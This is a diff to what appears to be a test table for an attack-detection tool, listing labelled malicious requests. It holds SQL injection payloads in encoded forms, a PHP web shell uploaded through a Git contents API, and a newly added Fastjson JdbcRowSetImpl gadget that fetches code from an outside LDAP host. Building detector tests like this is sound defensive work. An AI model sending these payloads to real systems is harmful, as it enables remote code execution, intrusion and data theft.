@@ -138,6 +138,7 @@ const PLACES: readonly [string, string, number, string, string][] = [
   ["sqli base64-encoded for an application that decodes the argument (sqlmap's base64encode)", get('/item?id=MSkgQU5EIDY4MzA9NjgzMC0tIC0%3D'), SQLI, 'query', 'id'],
   ["sqli in \\u escapes for an application that unescapes them (sqlmap's charunicodeescape)", get('/item?id=%5Cu0031%5Cu0027%5Cu0020%5Cu004F%5Cu0052%5Cu0020%5Cu0031%5Cu003D%5Cu0031%5Cu002D%5Cu002D'), SQLI, 'query', 'id'],
   ["a PHP web shell put base64-encoded through a Git host's contents API", `PUT /api/v1/repos/ann/site/contents/shell.php HTTP/1.1\r\nHost: shop.example\r\nContent-Type: application/json\r\n\r\n${JSON.stringify({ content: Buffer.from("<?php\nsystem($_GET['c']);\n").toString('base64'), message: 'add' })}`.replace('\r\n\r\n', `\r\nContent-Length: ${JSON.stringify({ content: Buffer.from("<?php\nsystem($_GET['c']);\n").toString('base64'), message: 'add' }).length}\r\n\r\n`), CMDI, 'json', 'content'],
+  ["Fastjson's JdbcRowSetImpl gadget with an LDAP data source in a JSON body", post('application/json', '{"b":{"@type":"com.sun.rowset.JdbcRowSetImpl","dataSourceName":"ldap://198.51.100.7:1389/Exploit","autoCommit":true}}'), CMDI, 'json', 'b.@type'],
   ['sqli split over a repeated argument (parameter pollution)', get('/item?id=1%20UNION/*&id=*/SELECT%20password%20FROM%20users--'), SQLI, 'query', 'id'],
 ];
 
